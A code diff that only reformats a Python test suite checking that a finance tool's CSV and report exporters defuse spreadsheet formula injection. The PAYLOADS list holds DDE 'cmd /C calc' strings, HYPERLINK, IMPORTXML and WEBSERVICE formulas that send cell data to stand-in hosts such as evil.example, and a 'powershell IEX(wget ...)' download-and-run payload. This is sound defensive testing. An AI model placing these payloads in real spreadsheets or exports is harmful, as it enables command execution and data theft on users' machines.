@@ -28,14 +28,66 @@ from chargeback_engine.policy.model import CostCenter
 from tests.finance.builders import run_input
 
 PAYLOADS = [
-    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "+cmd|' /C calc'!A0",
-    "-1+1", "-cmd|' /C calc'!A0", "-2-3", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1",
-    "\x00=1+1", " =1+1", "   @SUM(A1)", "\u3000=1+1", "\u00a0+1", "\ufeff=1", "\u2003-cmd", "＝1+1", "＋1+1",
-    "－1+1", "＠SUM(A1)", " ＝1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=IMPORTXML(CONCAT(\"http://e/?\",A1),\"//a\")",
-    "=WEBSERVICE(\"http://evil.example\")", "=2+5+cmd|' /C calc'!A0", "a\r=1+1", "a\n=1+1", "a\r\n=1+1",
-    "x\r@SUM(A1)", "x\r\r-cmd", "\r", "\n", "\r\n", "a,=1+1", "a\",\"=1+1", "\"=1+1\"", "\",=1+1,\"",
-    "'=1+1", "=", "+", "-", "@", "\t", "=1\r", "\r\n\r\n=1", "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0",
-    "@@@=1", "=-1", "-=1", "a;=1+1", "=\u0000", "%0A=1+1", "=A1\u2028=B1", "\u2028=1", "\v=1", "\f=1",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-cmd|' /C calc'!A0",
+    "-2-3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\x00=1+1",
+    " =1+1",
+    "   @SUM(A1)",
+    "\u3000=1+1",
+    "\u00a0+1",
+    "\ufeff=1",
+    "\u2003-cmd",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    " ＝1",
+    '=DDE("cmd";"/C calc";"!A0")',
+    '=IMPORTXML(CONCAT("http://e/?",A1),"//a")',
+    '=WEBSERVICE("http://evil.example")',
+    "=2+5+cmd|' /C calc'!A0",
+    "a\r=1+1",
+    "a\n=1+1",
+    "a\r\n=1+1",
+    "x\r@SUM(A1)",
+    "x\r\r-cmd",
+    "\r",
+    "\n",
+    "\r\n",
+    "a,=1+1",
+    'a","=1+1',
+    '"=1+1"',
+    '",=1+1,"',
+    "'=1+1",
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "=1\r",
+    "\r\n\r\n=1",
+    "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0",
+    "@@@=1",
+    "=-1",
+    "-=1",
+    "a;=1+1",
+    "=\u0000",
+    "%0A=1+1",
+    "=A1\u2028=B1",
+    "\u2028=1",
+    "\v=1",
+    "\f=1",
 ]
 
 FORMULA = re.compile(r"^[\s\x00\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000\ufeff]*[=+\-@＝＋－＠]")
@@ -64,8 +116,13 @@ def test_the_python_writer_quotes_line_breaks_and_defuses_formulas(payload: str)
 
 
 def test_the_arrow_writer_quotes_line_breaks_and_defuses_formulas(tmp_path: Path) -> None:
-    table = pa.table({"text": PAYLOADS, "coded": pa.array(PAYLOADS).dictionary_encode(),
-                      "amount": pa.array([Decimal("-1.5")] * len(PAYLOADS), pa.decimal128(38, 10))})
+    table = pa.table(
+        {
+            "text": PAYLOADS,
+            "coded": pa.array(PAYLOADS).dictionary_encode(),
+            "amount": pa.array([Decimal("-1.5")] * len(PAYLOADS), pa.decimal128(38, 10)),
+        }
+    )
     rows = assert_safe(write_csv(table, tmp_path / "allocations.csv").read_bytes().decode())
     assert [r[0] for r in rows[1:]] == [safe_cell(p) for p in PAYLOADS]
     assert [r[1] for r in rows[1:]] == [safe_cell(p) for p in PAYLOADS]
@@ -81,8 +138,10 @@ def test_finance_invoices_statement_and_journals(tmp_path: Path) -> None:
     written = {
         "invoices": export_invoices(books, "2026-01", tmp_path / "invoices").parent,
         "statement": export_statement(books, "2026-01", str(tmp_path / "statement"), settings).parent,
-        **{erp: export_journal(books, "2026-01", erp, tmp_path / erp, settings).parent
-           for erp in ("sap", "netsuite", "oracle")},
+        **{
+            erp: export_journal(books, "2026-01", erp, tmp_path / erp, settings).parent
+            for erp in ("sap", "netsuite", "oracle")
+        },
     }
     books.dispose()
     for kind, directory in written.items():
@@ -94,11 +153,27 @@ def test_finance_invoices_statement_and_journals(tmp_path: Path) -> None:
 
 def test_insight_report_csvs() -> None:
     line = lambda name: Line.of(name, Decimal("-10.5"), Decimal("3"))  # noqa: E731
-    team = TeamReport("=cmd|' /C calc'!A0", "2026-01", "USD", line("total"), Decimal(1), Decimal(2),
-                      tuple(line(p) for p in PAYLOADS), BudgetUse(Decimal(5), Decimal(6), Decimal("-1.5")),
-                      (TrendPoint("2026-01", Decimal(1)),))
-    summary = ExecutiveSummary("2026-01", "USD", line("total"), tuple(line(p) for p in PAYLOADS),
-                               tuple(line(p) for p in PAYLOADS), tuple(line(p) for p in PAYLOADS), Decimal(0), None)
+    team = TeamReport(
+        "=cmd|' /C calc'!A0",
+        "2026-01",
+        "USD",
+        line("total"),
+        Decimal(1),
+        Decimal(2),
+        tuple(line(p) for p in PAYLOADS),
+        BudgetUse(Decimal(5), Decimal(6), Decimal("-1.5")),
+        (TrendPoint("2026-01", Decimal(1)),),
+    )
+    summary = ExecutiveSummary(
+        "2026-01",
+        "USD",
+        line("total"),
+        tuple(line(p) for p in PAYLOADS),
+        tuple(line(p) for p in PAYLOADS),
+        tuple(line(p) for p in PAYLOADS),
+        Decimal(0),
+        None,
+    )
     for report in (team, summary):
         text = render(report, "csv")
         rows = assert_safe(text)
